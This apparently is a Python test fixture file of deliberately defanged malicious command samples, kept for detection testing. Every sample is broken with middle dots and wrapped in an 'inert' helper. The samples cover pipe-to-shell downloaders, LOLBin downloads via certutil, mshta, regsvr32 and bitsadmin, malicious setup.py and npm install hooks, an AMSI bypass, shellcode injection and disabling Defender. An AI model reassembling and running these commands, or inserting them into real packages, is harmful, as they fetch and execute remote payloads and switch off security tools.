"""Text fixtures: downloaders and hiding PowerShell."""

from __future__ import annotations

from tests.base.inert import inert

FIXTURES: dict[str, bytes] = {
    "downloader_powershell_hidden": inert(
        r"""power·shell.exe -nop -w hid·den -c "(New-Obj·ect Net.WebC·lient).Downlo·adFile('ht·tp://exa·mple.in·
v·alid/a','b')"
"""
    ),
    "downloader_powershell_evaluates": inert(
        r"""IEX (New-Obj·ect Net.WebC·lient).Downloa·dString('ht·tp://exa·mple.inv·alid/a.ps1')
"""
    ),
    "downloader_shell_hidden_file": inert(
        r"""wg·et -q ht·tp://exa·mple.inv·alid/x -O /tmp/.x && ch·mod +x /tmp/.x && /tmp/.x
"""
    ),
    "downloader_shell_many_machines": inert(
        r"""#!/bin/sh
wg·et ht·tp://exa·mple.inv·alid/b/x.mi·ps; ch·mod 777 x.mi·ps; ./x.mi·ps
wg·et ht·tp://exa·mple.inv·alid/b/x.mp·sl; ch·mod 777 x.mp·sl; ./x.mp·sl
wg·et ht·tp://exa·mple.inv·alid/b/x.ar·m7; ch·mod 777 x.ar·m7; ./x.ar·m7
wg·et ht·tp://exa·mple.inv·alid/b/x.sh4; ch·mod 777 x.sh4; ./x.sh4
"""
    ),
    "downloader_shell_folder_walk": inert(
        r"""cd /tmp || cd /var/run || cd /mnt; wg·et ht·tp://exa·mple.inv·alid/x.sh; ch·mod 777 x.sh; sh x.sh
"""
    ),
    "downloader_shell_base64": inert("ec·ho «60» | bas·e64 -d | ba·sh"),
    "downloader_curl_to_shell_plain": inert("cu·rl -fs·SL ht·tp://192.0.2.7/i.sh | sh"),
    "downloader_certutil": inert(
        r"""cert·util.exe -urlc·ache -sp·lit -f ht·tp://exa·mple.inv·alid/a.exe a.exe
"""
    ),
    "downloader_certutil_decodes": inert("cert·util -dec·ode a.txt b.exe & st·art b.exe"),
    "downloader_mshta": inert("ms·hta.exe ht·tp://exa·mple.inv·alid/a.hta"),
    "downloader_bitsadmin": inert(
        r"""bits·admin /tran·sfer j /down·load /prio·rity hi·gh ht·tp://exa·mple.inv·alid/a.exe %te·mp%\a.exe
"""
    ),
    "downloader_regsvr32_scriptlet": inert(
        r"""regs·vr32 /s /n /u /i:ht·tp://exa·mple.inv·alid/a.sct scr·obj.dll
"""
    ),
    "downloader_rundll32_script": inert(
        r"""rund·ll32.exe javas·cript:"\..\msh·tml,RunHTMLAp·plication ";harm·less()
"""
    ),
    "downloader_wmic_stylesheet": inert(
        r"""wm·ic os get /for·mat:"ht·tp://exa·mple.inv·alid/a.xsl"
"""
    ),
    "downloader_msiexec_quiet": inert("msi·exec /q /i ht·tp://192.0.2.7/a.msi"),
    "downloader_windows_script": inert(
        r"""Set h = Create·Object("MSX·ML2.XML·HTTP"): h.Op·en "GET", "ht·tp://exa·mple.inv·alid/a", Fa·lse: h.Se·nd
Set s = Create·Object("AD·ODB.Str·eam"): s.Wr·ite h.Respon·seBody: s.SaveT·oFile "a.exe"
Create·Object("WSc·ript.Sh·ell").Run "a.exe"
"""
    ),
    "downloader_python_exec_url": inert(
        r"""imp·ort url·lib.req·uest; ex·ec(url·lib.req·uest.url·open("ht·tp://exa·mple.inv·alid/a.py").re·ad())
"""
    ),
    "downloader_python_exec_encoded": inert(
        r"""imp·ort bas·e64, zl·ib; ex·ec(zl·ib.decom·press(bas·e64.b64d·ecode('«64»')))
"""
    ),
    "downloader_python_package": inert(
        r"""fr·om setup·tools imp·ort se·tup
fr·om setup·tools.com·mand.ins·tall imp·ort ins·tall
imp·ort os
cl·ass I(ins·tall):
    def run(se·lf): os.sys·tem("cu·rl ht·tp://exa·mple.inv·alid/a | sh")
se·tup(na·me="x", cmdc·lass={"ins·tall": I})
"""
    ),
    "downloader_npm_install_script": inert(
        r"""{"na·me": "x", "scr·ipts": {"prein·stall": "cu·rl ht·tp://exa·mple.inv·alid/a | sh"}}
"""
    ),
    "powershell_encoded_command": inert(
        r"""power·shell.exe -nop -enc «ps:Wr·ite-Host 'not·hing but a harm·less gree·ting'»
"""
    ),
    "powershell_base64_keywords": inert(
        r"""$x = "«ps:(New-Obj·ect Net.WebC·lient).Downloa·dString('ab·out:bl·ank')»"
"""
    ),
    "powershell_amsi_bypass": inert(
        r"""[Ref].Asse·mbly.Get·Type('Sys·tem.Manag·ement.Autom·ation.Amsi·Utils').GetF·ield('amsiIni·tFailed','·
x').SetV·alue($nu·ll,1)
"""
    ),
    "powershell_shellcode": inert(
        r"""[DllI·mport("kern·el32.dll")] pub·lic sta·tic ext·ern Int·Ptr Virtua·lAlloc(); Create·Thread();
[By·te[]] $b = 0x·90,0x·90; [Sys·tem.Run·time.Interop·Services.Mar·shal]::Co·py($b, 0, $p, 2)
"""
    ),
    "powershell_spelled_iex": inert(
        r"""& ($env:com·spec[4,24,25]-jo·in'') "Wr·ite-Ho·st harm·less"
"""
    ),
    "powershell_reflective_load": inert(
        r"""[Refle·ction.Asse·mbly]::Lo·ad([Con·vert]::FromBase·64String($t)).Entry·Point.Inv·oke($nu·ll, $nu·ll)
"""
    ),
    "powershell_compressed_stage": inert(
        r"""$s=New-Obj·ect IO.Memory·Stream(,[Con·vert]::FromBase·64String("«40»"));
IEX (New-Obj·ect IO.Stream·Reader(New-Obj·ect IO.Compr·ession.GzipS·tream($s,0))).Read·ToEnd()
"""
    ),
    "powershell_disables_defender": inert("Set-MpPref·erence -DisableRealt·imeMonitoring $tr·ue"),
}
